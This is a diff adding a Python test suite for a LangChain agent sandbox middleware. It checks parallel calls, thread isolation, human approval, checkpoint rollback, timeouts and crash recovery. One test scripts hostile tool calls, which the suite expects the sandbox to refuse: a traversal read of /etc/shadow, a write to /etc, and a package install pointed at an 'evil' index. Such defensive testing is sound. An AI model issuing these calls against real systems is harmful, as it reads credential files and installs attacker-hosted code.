@@ -1,0 +1,193 @@
+"""How the graph glue behaves under the things agents do: parallel calls, several threads, human
+approval, time travel in one process, and code that times out, kills its worker or attacks the
+host. Real local sandboxes, real checkpointers."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from langchain.agents import create_agent
+from langchain.agents.middleware import HumanInTheLoopMiddleware
+from langchain_core.messages import BaseMessage, HumanMessage, ToolMessage
+from langgraph.checkpoint.memory import InMemorySaver
+from langgraph.types import Command
+
+from langchain_sandbox.graph import SandboxMiddleware
+from langchain_sandbox.runtime import SandboxRuntime
+from langchain_sandbox.testing.scripted_model import ScriptedToolModel, call
+
+
+def tool_messages(messages: list[BaseMessage]) -> list[ToolMessage]:
+    return [m for m in messages if isinstance(m, ToolMessage)]
+
+
+def agent_with(runtime: SandboxRuntime, script: Any, *extra: Any) -> Any:
+    return create_agent(
+        ScriptedToolModel(script=script),
+        middleware=[*extra, SandboxMiddleware(runtime=runtime)],
+        checkpointer=InMemorySaver(),
+    )
+
+
+def cfg(thread: str) -> Any:
+    return {"configurable": {"thread_id": thread}}
+
+
+async def test_parallel_calls_share_one_sandbox_and_merge(
+    runtime: SandboxRuntime, thread: str
+) -> None:
+    agent = agent_with(
+        runtime,
+        [
+            call("sandbox_exec", code="import os\npid = os.getpid()\nbase = 100"),
+            [
+                call("sandbox_exec", code="print(os.getpid() == pid, base + 1)"),
+                call("sandbox_exec", code="print(os.getpid() == pid, base + 2)"),
+                call("sandbox_write_file", path="p.txt", content="parallel"),
+            ],
+            call("sandbox_exec", code="print(open('p.txt').read())"),
+            "done",
+        ],
+    )
+    state = await agent.ainvoke({"messages": [HumanMessage("go")]}, cfg(thread))
+    texts = sorted(m.text.strip() for m in tool_messages(state["messages"])[1:4])
+    assert texts == ["Wrote 8 bytes to /home/user/p.txt.", "stdout:\nTrue 101", "stdout:\nTrue 102"]
+    assert "parallel" in tool_messages(state["messages"])[-1].text
+    assert state["sandbox"]["revision"] == 5
+    assert state["sandbox"]["exec_count"] == 4
+    assert list(runtime.live_sessions()).count(thread) == 1
+
+
+def test_two_threads_get_two_sandboxes_that_cannot_see_each_other(
+    runtime: SandboxRuntime, thread: str
+) -> None:
+    other = thread + "-other"
+    writer = agent_with(
+        runtime,
+        [call("sandbox_write_file", path="secret.txt", content="thread A only"), "ok"],
+    )
+    reader = agent_with(
+        runtime,
+        [
+            call("sandbox_exec", code="import os\nprint(sorted(os.listdir('.')))"),
+            call("sandbox_read_file", path="secret.txt"),
+            "ok",
+        ],
+    )
+    writer.invoke({"messages": [HumanMessage("write")]}, cfg(thread))
+    state = reader.invoke({"messages": [HumanMessage("read")]}, cfg(other))
+    listing, read = tool_messages(state["messages"])
+    assert "secret.txt" not in listing.text
+    assert read.status == "error"
+    assert "thread A only" not in read.text
+    live = runtime.live_sessions()
+    assert live[thread] != live[other]
+
+
+def test_human_in_the_loop_approval_composes_with_the_middleware(
+    runtime: SandboxRuntime, thread: str
+) -> None:
+    agent = agent_with(
+        runtime,
+        [call("sandbox_exec", code="ran = globals().get('ran', 0) + 1\nprint('ran', ran)"), "ok"],
+        HumanInTheLoopMiddleware(interrupt_on={"sandbox_exec": True}),
+    )
+    paused = agent.invoke({"messages": [HumanMessage("go")]}, cfg(thread))
+    assert paused["__interrupt__"]
+    assert tool_messages(paused["messages"]) == []
+    done = agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), cfg(thread))
+    assert [m.text.strip() for m in tool_messages(done["messages"])] == ["stdout:\nran 1"]
+    assert done["sandbox"]["exec_count"] == 1
+
+
+def test_time_travel_in_one_process_restores_the_older_workspace(
+    runtime: SandboxRuntime, thread: str
+) -> None:
+    """The live sandbox has moved on; replaying from an older checkpoint restores that
+    checkpoint's files and variables (copy-on-divergence), and the newer branch keeps its own."""
+    script = [
+        call("sandbox_exec", code="v = 1\nopen('f.txt', 'w').write('one')"),
+        call(
+            "sandbox_exec",
+            code="print('saw', v, open('f.txt').read())\nv = 2\nopen('f.txt', 'w').write('two')",
+        ),
+        "done",
+        call("sandbox_exec", code="print('now', v, open('f.txt').read())"),
+        "done again",
+    ]
+    agent = agent_with(runtime, script)
+    agent.invoke({"messages": [HumanMessage("go")]}, cfg(thread))
+    history = list(agent.get_state_history(cfg(thread)))
+    newest = history[0].config
+    older = next(
+        s.config
+        for s in history
+        if s.next == ("model",) and len(tool_messages(s.values["messages"])) == 1
+    )
+
+    fork = agent.invoke(None, older)
+    assert "saw 1 one" in tool_messages(fork["messages"])[-1].text
+    back = agent.invoke({"messages": [HumanMessage("again")]}, newest)
+    assert "now 2 two" in tool_messages(back["messages"])[-1].text
+
+
+async def test_timeout_leaves_the_thread_usable(runtime: SandboxRuntime, thread: str) -> None:
+    agent = agent_with(
+        runtime,
+        [
+            call("sandbox_exec", code="kept = 'still here'"),
+            call("sandbox_exec", code="import time\ntime.sleep(60)", timeout=1),
+            call("sandbox_exec", code="print(kept)"),
+            "ok",
+        ],
+    )
+    state = await agent.ainvoke({"messages": [HumanMessage("go")]}, cfg(thread))
+    _, slow, after = tool_messages(state["messages"])
+    assert "[timed out" in slow.text
+    assert after.text.strip() == "stdout:\nstill here"
+
+
+def test_a_worker_crash_leaves_the_thread_usable(runtime: SandboxRuntime, thread: str) -> None:
+    agent = agent_with(
+        runtime,
+        [
+            call(
+                "sandbox_exec", code="open('saved.txt', 'w').write('before the crash')\nsaved = 7"
+            ),
+            call("sandbox_exec", code="import os\nos.kill(os.getpid(), 9)"),
+            call("sandbox_exec", code="print(open('saved.txt').read())\nagain = 8\nagain"),
+            "ok",
+        ],
+    )
+    state = agent.invoke({"messages": [HumanMessage("go")]}, cfg(thread))
+    _, crash, after = tool_messages(state["messages"])
+    # a crash of user code's process is a result the model reads, not a failure of the agent
+    assert "[error] SandboxWorkerDied" in crash.text
+    assert "variables were lost" in crash.text
+    assert "before the crash" in after.text  # the workspace survived
+    assert after.text.rstrip().endswith("value:\n8")  # and Python works again
+
+
+def test_hostile_input_leaves_the_thread_usable(runtime: SandboxRuntime, thread: str) -> None:
+    agent = agent_with(
+        runtime,
+        [
+            call("sandbox_exec", code="mine = 'fine'"),
+            [
+                call("sandbox_read_file", path="../../../etc/shadow"),
+                call("sandbox_write_file", path="/etc/evil", content="x"),
+                call("sandbox_install_packages", packages=["--index-url=http://evil"]),
+            ],
+            call("sandbox_exec", code="print('x' * 3_000_000)\nprint(mine)"),
+            "ok",
+        ],
+    )
+    state = agent.invoke({"messages": [HumanMessage("go")]}, cfg(thread))
+    messages = tool_messages(state["messages"])
+    refused = messages[1:4]
+    assert all(m.status == "error" for m in refused), [m.text for m in refused]
+    assert "outside the workspace" in refused[0].text or "'..'" in refused[0].text
+    big = messages[-1].text
+    assert "fine" in big
+    assert "output truncated at the source" in big
+    assert len(big) < 20_000  # the model sees head and tail, not 3 MB
